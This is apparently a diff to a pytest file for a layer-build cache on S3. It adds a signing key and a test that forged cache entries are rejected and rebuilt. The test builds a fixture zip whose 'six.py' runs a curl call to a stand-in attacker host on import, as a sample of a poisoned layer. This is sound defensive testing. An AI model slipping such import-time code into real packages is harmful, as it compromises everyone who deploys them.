@@ -2,8 +2,9 @@
 
 A first runner builds a function's layer and uploads it; a second runner, with an empty
 cache of its own and a checkout elsewhere, downloads it and runs no installer; a corrupt
-object is ignored, rebuilt and replaced. ``GENESYS_CACHE_URL`` reaches the build through
-the doit tasks, as in CI.
+object is ignored, rebuilt and replaced; an entry and its record both rewritten by someone who
+may write the bucket (but does not hold ``GENESYS_CACHE_KEY``) are rejected, rebuilt and reported.
+``GENESYS_CACHE_URL`` and ``GENESYS_CACHE_KEY`` reach the build through the doit tasks, as in CI.
 """
 
 from __future__ import annotations
@@ -26,6 +27,7 @@ handler = "app.handler"
 installer = "uv"
 """
 URL = "s3://layer-cache/team-a/"
+SECRET = "k" * 64
 
 
 @pytest.fixture
@@ -67,6 +69,7 @@ def runner(tmp_path, monkeypatch, capsys, boto):
         with monkeypatch.context() as scoped:
             scoped.setenv("GENESYS_CACHE_DIR", str(tmp_path / cache_name))
             scoped.setenv("GENESYS_CACHE_URL", URL)
+            scoped.setenv("GENESYS_CACHE_KEY", SECRET)
             for name, value in env.items():
                 scoped.setenv(name, value)
             scoped.setattr(subprocess, "run", spy_run)
@@ -126,6 +129,44 @@ def test_a_second_runner_downloads_the_layer_the_first_built_and_a_corrupt_one_i
     assert "does not match its record" in err and "layer shared x86_64: built" in err
     assert any("pip install" in c for c in commands)
     assert layer_objects(boto)[zip_key] == good, "the good layer replaced the cut-off one"
+
+
+def test_an_entry_and_its_record_rewritten_by_a_bucket_writer_are_rejected_rebuilt_and_reported(checkout, runner,
+                                                                                              boto, tmp_path):
+    import hashlib
+    import json
+    import zipfile
+
+    code, err, _ = runner(checkout("runner-1"), "cache-1")
+    assert code == 0, err
+    objects = layer_objects(boto)
+    (zip_key,) = [k for k in objects if k.endswith(".zip")]
+    record_key = zip_key[:-4] + ".json"
+    good_zip, good_record = objects[zip_key], objects[record_key]
+
+    evil = tmp_path / "evil.zip"  # what the writer wants every function to ship
+    with zipfile.ZipFile(evil, "w") as archive:
+        archive.writestr("python/six.py", "import os\nos.system('curl https://attacker.example')\n")
+    forged = dict(json.loads(good_record), size=evil.stat().st_size,
+                  sha256=hashlib.sha256(evil.read_bytes()).hexdigest())
+    s3 = boto("s3")
+    s3.put_object(Bucket="layer-cache", Key=zip_key, Body=evil.read_bytes())
+    s3.put_object(Bucket="layer-cache", Key=record_key, Body=json.dumps(forged).encode())
+
+    second = checkout("runner-2")
+    code, err, commands = runner(second, "cache-2")
+    assert code == 0, err
+    assert err.count("is not signed with GENESYS_CACHE_KEY") == 1 and "rejected, building it again" in err
+    assert "layer shared x86_64: built" in err and any("pip install" in c for c in commands)
+    with zipfile.ZipFile(layer_zip(second)) as archive:
+        assert not any(b"attacker" in archive.read(n) for n in archive.namelist())
+    assert layer_objects(boto)[zip_key] == good_zip, "the good layer replaced the forged one"
+    assert json.loads(layer_objects(boto)[record_key])["signature"] == json.loads(good_record)["signature"]
+
+    code, err, commands = runner(checkout("runner-3"), "cache-3", GENESYS_CACHE_KEY="")
+    assert code == 0, err
+    assert err.count("GENESYS_CACHE_KEY is not set") == 1 and "layer shared x86_64: built" in err
+    assert layer_objects(boto)[zip_key] == good_zip, "nothing written without the key"
 
 
 def test_the_s3_store_reads_nothing_from_a_missing_bucket_and_cannot_write_to_it(aws, tmp_path):
